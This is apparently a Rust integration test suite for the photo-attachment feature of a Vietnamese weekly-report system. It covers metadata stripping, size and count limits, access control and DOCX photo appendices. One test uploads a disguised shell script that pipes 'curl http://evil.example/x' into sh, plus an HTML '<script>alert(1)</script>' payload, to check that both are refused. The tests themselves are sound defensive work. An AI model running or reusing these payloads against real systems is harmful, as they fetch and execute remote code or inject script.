//! Evidence attachments (minh chứng, issue #22 item 5): photos attached to a weekly
//! report and its activities are stored re-encoded without their metadata (the GPS
//! position kept apart only when the unit asks), refused when too large, disguised or
//! over the report's limit, readable only by those who may read the report, and
//! printed in the report documents' photo appendix.

use phongtrao_domain::attachment::{self as rules, Position};
use phongtrao_domain::role::Role;
use reqwest::multipart::{Form, Part};
use reqwest::StatusCode;
use serde_json::{json, Value};

use crate::documents::{docx_text, download, part};
use crate::support::{add_token, add_user, spawn_app, TestApp};

const PW: &str = "mat-khau-thu-nghiem-1";
const WEEK: &str = "2023-03-03";
const SAIGON: Position = Position { lat: 10.776_9, lon: 106.700_9 };

/// A camera-like JPEG of `w` × `h` pixels (a gradient, so it is not tiny).
pub(crate) fn photo(w: u32, h: u32) -> Vec<u8> {
    let img =
        image::RgbImage::from_fn(w, h, |x, y| image::Rgb([(x % 251) as u8, (y % 241) as u8, ((x + y) % 256) as u8]));
    let mut out = Vec::new();
    image::codecs::jpeg::JpegEncoder::new_with_quality(&mut out, 90).encode_image(&img).expect("jpeg");
    out
}

/// The same photo carrying an EXIF block with a GPS position, as a phone writes it.
pub(crate) fn photo_with_gps(w: u32, h: u32) -> Vec<u8> {
    rules::jpeg_with_exif(&photo(w, h), &rules::exif_with_gps(SAIGON))
}

async fn draft_with_activity(app: &TestApp, token: &str, unit: &str) -> i64 {
    let r = app
        .client
        .put(format!("{}/api/v1/reports/{unit}/{WEEK}/draft", app.base))
        .bearer_auth(token)
        .json(&json!({"version": 0, "input": {"values": {"5": "100"}, "activities": [
            {"title": "Ra quân trồng cây xanh", "held_on": "2023-03-01", "area": "2.1", "place": "Phường Vĩnh Thanh",
             "participants": "150", "funds": "2.500.000", "result": "Trồng 100 cây"}]}}))
        .send()
        .await
        .expect("draft");
    assert!(r.status().is_success(), "{}", r.text().await.unwrap_or_default());
    let saved: Value = r.json().await.expect("json");
    saved["version"].as_i64().expect("version")
}

async fn upload(
    app: &TestApp,
    token: &str,
    owner: &str,
    file: Vec<u8>,
    name: &str,
    extra: &[(&str, &str)],
) -> (StatusCode, Value) {
    let mut form = Form::new()
        .text("owner", owner.to_string())
        .part("file", Part::bytes(file).file_name(name.to_string()).mime_str("image/jpeg").expect("mime"));
    for (k, v) in extra {
        form = form.text(k.to_string(), v.to_string());
    }
    let r = app
        .client
        .post(format!("{}/api/v1/attachments", app.base))
        .bearer_auth(token)
        .multipart(form)
        .send()
        .await
        .expect("upload");
    let status = r.status();
    (status, r.json().await.unwrap_or(Value::Null))
}

async fn fetch(app: &TestApp, token: &str, id: i64) -> (StatusCode, reqwest::header::HeaderMap, Vec<u8>) {
    let r =
        app.client.get(format!("{}/api/v1/attachments/{id}", app.base)).bearer_auth(token).send().await.expect("fetch");
    let (status, headers) = (r.status(), r.headers().clone());
    (status, headers, r.bytes().await.expect("body").to_vec())
}

fn has_exif(bytes: &[u8]) -> bool {
    rules::jpeg_exif(bytes).is_some() || bytes.windows(4).any(|w| w == b"Exif") || rules::jpeg_gps(bytes).is_some()
}

async fn stored_count(app: &TestApp) -> (i64, i64) {
    phongtrao_storage::attachments::totals(&app.db).await.expect("totals")
}

fn owner(unit: &str) -> String {
    format!("report:{unit}:{WEEK}")
}

#[tokio::test]
async fn a_photo_is_stored_without_its_gps_and_the_location_kept_only_in_the_columns_when_asked() {
    let app = spawn_app().await;
    let unit = add_token(&app.db, add_user(&app.db, "a.899", Role::Unit, &["899"], PW).await).await;
    draft_with_activity(&app, &unit, "899").await;
    let original = photo_with_gps(2400, 1800);
    assert!(has_exif(&original) && rules::jpeg_gps(&original).is_some(), "the test photo carries GPS");

    let (status, a) = upload(
        &app,
        &unit,
        &owner("899"),
        original.clone(),
        "IMG_0001.jpg",
        &[("caption", "Ra quân"), ("activity", "0")],
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{a}");
    assert_eq!((a["width"].as_i64(), a["height"].as_i64()), (Some(1600), Some(1200)), "scaled to 1600 px: {a}");
    assert_eq!(a["activity"], 0);
    assert!(a["lat"].is_null() && a["lon"].is_null(), "no location unless asked: {a}");
    let (status, headers, bytes) = fetch(&app, &unit, a["id"].as_i64().expect("id")).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(headers["content-type"], "image/jpeg");
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert!(headers["content-disposition"].to_str().expect("ascii").contains("minh-chung-"));
    assert!(bytes.starts_with(&[0xFF, 0xD8, 0xFF]) && bytes != original);
    assert!(!has_exif(&bytes), "no EXIF, no GPS in the stored file");

    // A caption of 100,000 characters: the caption's own limit is named, nothing stored.
    let long = "Ra quân trồng cây ".repeat(6_000);
    let (status, refused) =
        upload(&app, &unit, &owner("899"), photo(640, 480), "long.jpg", &[("caption", long.as_str())]).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{refused}");
    assert!(refused.to_string().contains("Chú thích dài quá 300 ký tự"), "{refused}");

    // "Giữ vị trí": the position in the columns, still not in the file.
    let (status, kept) = upload(&app, &unit, &owner("899"), original, "IMG_0002.jpg", &[("keep_location", "1")]).await;
    assert_eq!(status, StatusCode::CREATED, "{kept}");
    let (lat, lon) = (kept["lat"].as_f64().expect("lat"), kept["lon"].as_f64().expect("lon"));
    assert!((lat - SAIGON.lat).abs() < 1e-4 && (lon - SAIGON.lon).abs() < 1e-4, "{kept}");
    let (_, _, bytes) = fetch(&app, &unit, kept["id"].as_i64().expect("id")).await;
    assert!(!has_exif(&bytes));
    let list = app.api(&format!("/api/v1/attachments?owner={}", owner("899")), &unit).await;
    assert_eq!(list.as_array().map(Vec::len), Some(2), "{list}");

    // Both are in the audit log.
    assert_eq!(audited(&app, "attachment.add").await.len(), 2);
}

/// The audit entries whose action starts with `prefix`.
async fn audited(app: &TestApp, prefix: &str) -> Vec<String> {
    let filter =
        phongtrao_storage::audit::AuditFilter { action_prefix: Some(prefix.into()), limit: 1000, ..Default::default() };
    phongtrao_storage::audit::query(&app.db, &filter).await.expect("audit").into_iter().map(|r| r.action).collect()
}

#[tokio::test]
async fn a_twenty_megabyte_file_and_a_script_named_jpg_are_refused_and_nothing_is_stored() {
    let app = spawn_app().await;
    let unit = add_token(&app.db, add_user(&app.db, "b.899", Role::Unit, &["899"], PW).await).await;
    draft_with_activity(&app, &unit, "899").await;

    let mut big = photo(64, 64);
    big.resize(20 * 1024 * 1024, 0);
    let (status, body) = upload(&app, &unit, &owner("899"), big, "big.jpg", &[]).await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{body}");
    assert!(body["error"]["message_vi"].as_str().unwrap_or("").contains("10 MB"), "{body}");
    // Just over 10 MB: passes the request's bound, stopped while the file streams.
    let mut over = photo(64, 64);
    over.resize(10 * 1024 * 1024 + 100 * 1024, 0);
    let (status, body) = upload(&app, &unit, &owner("899"), over, "over.jpg", &[]).await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{body}");
    assert!(body["error"]["message_en"].as_str().unwrap_or("").contains("10 MB"), "{body}");

    let script = b"#!/bin/sh\ncurl http://evil.example/x | sh\n".to_vec();
    let (status, body) = upload(&app, &unit, &owner("899"), script, "photo.jpg", &[]).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert!(body["error"]["message_vi"].as_str().unwrap_or("").contains("Chỉ nhận ảnh"), "{body}");
    let html = b"<html><script>alert(1)</script></html>".to_vec();
    let (status, _) = upload(&app, &unit, &owner("899"), html, "x.png", &[]).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(stored_count(&app).await, (0, 0), "nothing stored");
}

#[tokio::test]
async fn a_unit_cannot_read_another_units_attachments_and_the_office_can() {
    let app = spawn_app().await;
    let db = &app.db;
    let admin = add_token(db, add_user(db, "c.admin", Role::Admin, &[], PW).await).await;
    let u899 = add_token(db, add_user(db, "c.899", Role::Unit, &["899"], PW).await).await;
    let u900 = add_token(db, add_user(db, "c.900", Role::Unit, &["900"], PW).await).await;
    draft_with_activity(&app, &u899, "899").await;
    let (status, a) = upload(&app, &u899, &owner("899"), photo(300, 200), "a.jpg", &[]).await;
    assert_eq!(status, StatusCode::CREATED, "{a}");
    let id = a["id"].as_i64().expect("id");

    let (status, _, body) = fetch(&app, &u900, id).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert!(!body.starts_with(&[0xFF, 0xD8]), "no picture bytes to another unit");
    let r = app
        .client
        .get(format!("{}/api/v1/attachments?owner={}", app.base, owner("899")))
        .bearer_auth(&u900)
        .send()
        .await
        .expect("list");
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    // Another unit cannot attach to it either.
    let (status, _) = upload(&app, &u900, &owner("899"), photo(30, 30), "b.jpg", &[]).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    // Nor delete it.
    let r = app
        .client
        .delete(format!("{}/api/v1/attachments/{id}", app.base))
        .bearer_auth(&u900)
        .send()
        .await
        .expect("delete");
    assert_eq!(r.status(), StatusCode::FORBIDDEN);

    let (status, headers, body) = fetch(&app, &admin, id).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(headers["content-type"], "image/jpeg");
    assert!(body.starts_with(&[0xFF, 0xD8]));
    // Without a session or token: nothing.
    let r = app.client.get(format!("{}/api/v1/attachments/{id}", app.base)).send().await.expect("anonymous");
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    let thumb = app.client.get(format!("{}/attachments/{id}/thumb", app.base)).send().await.expect("page");
    assert_ne!(thumb.status(), StatusCode::OK);
}

#[tokio::test]
async fn the_weekly_report_docx_has_the_photo_with_its_caption_and_a_submitted_report_keeps_its_files() {
    let app = spawn_app().await;
    let db = &app.db;
    let admin = add_token(db, add_user(db, "d.admin", Role::Admin, &[], PW).await).await;
    let unit = add_token(db, add_user(db, "d.899", Role::Unit, &["899"], PW).await).await;
    let version = draft_with_activity(&app, &unit, "899").await;
    let (status, a) = upload(
        &app,
        &unit,
        &owner("899"),
        photo(1200, 900),
        "a.jpg",
        &[("caption", "Ra quân trồng cây tại phường Vĩnh Thanh"), ("activity", "0")],
    )
    .await;
    assert_eq!(status, StatusCode::CREATED, "{a}");
    let (status, gone) = upload(&app, &unit, &owner("899"), photo(100, 100), "b.jpg", &[]).await;
    assert_eq!(status, StatusCode::CREATED);
    // The unit deletes one while the report is a draft.
    let r = app
        .client
        .delete(format!("{}/api/v1/attachments/{}", app.base, gone["id"]))
        .bearer_auth(&unit)
        .send()
        .await
        .expect("delete");
    assert_eq!(r.status(), StatusCode::NO_CONTENT);
    let r = app
        .client
        .post(format!("{}/api/v1/reports/899/{WEEK}/submit", app.base))
        .bearer_auth(&unit)
        .json(&json!({"version": version, "input": {"values": {"5": "100"}, "activities": [
            {"title": "Ra quân trồng cây xanh", "held_on": "2023-03-01", "area": "2.1", "place": "Phường Vĩnh Thanh",
             "participants": "150", "funds": "2.500.000", "result": "Trồng 100 cây"}]}}))
        .send()
        .await
        .expect("submit");
    assert!(r.status().is_success(), "{}", r.text().await.unwrap_or_default());
    // Submitted: the unit can no longer add or delete; the office still can.
    let (status, _) = upload(&app, &unit, &owner("899"), photo(50, 50), "c.jpg", &[]).await;
    assert_eq!(status, StatusCode::CONFLICT);
    let r = app
        .client
        .delete(format!("{}/api/v1/attachments/{}", app.base, a["id"]))
        .bearer_auth(&unit)
        .send()
        .await
        .expect("delete");
    assert_eq!(r.status(), StatusCode::CONFLICT);

    let (status, _, _, bytes) =
        download(&app, &admin, &format!("/api/v1/exports/weekly-report.docx?period_end={WEEK}")).await;
    assert_eq!(status, 200);
    let text = docx_text(&bytes);
    assert!(text.contains("PHỤ LỤC HÌNH ẢNH"), "{text}");
    assert!(text.contains("Hình 1. Ra quân trồng cây tại phường Vĩnh Thanh ("), "{text}");
    assert!(!text.contains("Hình 2."), "the deleted photo is gone: {text}");
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(&bytes)).expect("zip");
    let mut media = Vec::new();
    std::io::Read::read_to_end(&mut archive.by_name("word/media/image1.jpeg").expect("the photo"), &mut media)
        .expect("read");
    assert!(media.starts_with(&[0xFF, 0xD8, 0xFF]) && !has_exif(&media));
    let xml = part(&bytes, "word/document.xml");
    assert!(xml.contains("<wp:inline") && xml.contains(r#"r:embed="rIdImg1""#));
    // The appendix starts on a page of its own, after the signature.
    let appendix = xml.find("PHỤ LỤC HÌNH ẢNH").expect("appendix");
    let its_paragraph = xml[..appendix].rfind("<w:p>").expect("paragraph");
    assert!(xml[its_paragraph..appendix].contains("<w:pageBreakBefore/>"), "no page break before the appendix");
    assert!(part(&bytes, "word/_rels/document.xml.rels").contains(r#"Target="media/image1.jpeg""#));
    assert!(part(&bytes, "[Content_Types].xml").contains(r#"Extension="jpeg""#));
    // Audit: add ×2, delete ×1.
    assert_eq!(audited(&app, "attachment.delete").await.len(), 1);
    if std::env::var("PHONGTRAO_KEEP_DOCX").is_ok() {
        std::fs::write("/tmp/weekly-with-photo.docx", &bytes).expect("write");
    }
}

#[tokio::test]
async fn a_report_takes_twenty_files_at_most() {
    let app = spawn_app().await;
    let unit = add_token(&app.db, add_user(&app.db, "e.899", Role::Unit, &["899"], PW).await).await;
    draft_with_activity(&app, &unit, "899").await;
    for i in 0..20 {
        let (status, body) = upload(&app, &unit, &owner("899"), photo(40 + i, 40), "p.jpg", &[]).await;
        assert_eq!(status, StatusCode::CREATED, "file {i}: {body}");
    }
    let before = stored_count(&app).await;
    let (status, body) = upload(&app, &unit, &owner("899"), photo(99, 99), "p.jpg", &[]).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert!(body["error"]["message_vi"].as_str().unwrap_or("").contains("Đã đủ 20 tệp"), "{body}");
    assert!(body["error"]["message_en"].as_str().unwrap_or("").contains("20 attachments"), "{body}");
    assert_eq!(stored_count(&app).await, before, "nothing stored");
}

#[tokio::test]
async fn a_self_score_carries_its_evidence_files_shown_on_the_review_page_and_only_to_its_readers() {
    let app = spawn_app().await;
    let db = &app.db;
    let admin = add_token(db, add_user(db, "f.admin", Role::Admin, &[], PW).await).await;
    let u899 = add_token(db, add_user(db, "f.899", Role::Unit, &["899"], PW).await).await;
    let u900 = add_token(db, add_user(db, "f.900", Role::Unit, &["900"], PW).await).await;
    let r = app
        .client
        .put(format!("{}/api/v1/emulation/criteria", app.base))
        .bearer_auth(&admin)
        .json(&json!({"criteria": [
            {"number": "1", "title": "Chế độ thông tin báo cáo", "max_points": 20, "rule": {"kind": "reports_on_time", "per_late": 1, "per_missing": 2}},
            {"number": "2", "title": "Tổ chức các hoạt động hưởng ứng", "max_points": 22, "rule": {"kind": "assessed"}}]}))
        .send()
        .await
        .expect("sheet");
    let sheet: Value = r.json().await.expect("json");
    let assessed = sheet["criteria"][1]["id"].as_i64().expect("id");
    let automatic = sheet["criteria"][0]["id"].as_i64().expect("id");
    let owner = format!("emulation_score:{assessed}:899");
    let (status, a) =
        upload(&app, &u899, &owner, photo(640, 480), "a.jpg", &[("caption", "Kế hoạch 125-KH/ĐTN")]).await;
    assert_eq!(status, StatusCode::CREATED, "{a}");
    assert_eq!(
        a["owner_key"],
        format!("{assessed}:{}", phongtrao_storage::units::by_code(db, "899").await.expect("q").expect("unit").id)
    );
    // Only assessed criteria take evidence files; another unit can neither add nor read.
    let (status, _) =
        upload(&app, &u899, &format!("emulation_score:{automatic}:899"), photo(30, 30), "b.jpg", &[]).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let (status, _) = upload(&app, &u900, &owner, photo(30, 30), "b.jpg", &[]).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _, _) = fetch(&app, &u900, a["id"].as_i64().expect("id")).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    // The review page shows it to the office.
    let html = app.office_page("/emulation/review?unit=899").await;
    assert!(html.contains(&format!("/attachments/{}/thumb", a["id"])), "{html}");
    assert!(html.contains("Kế hoạch 125-KH/ĐTN"));
}
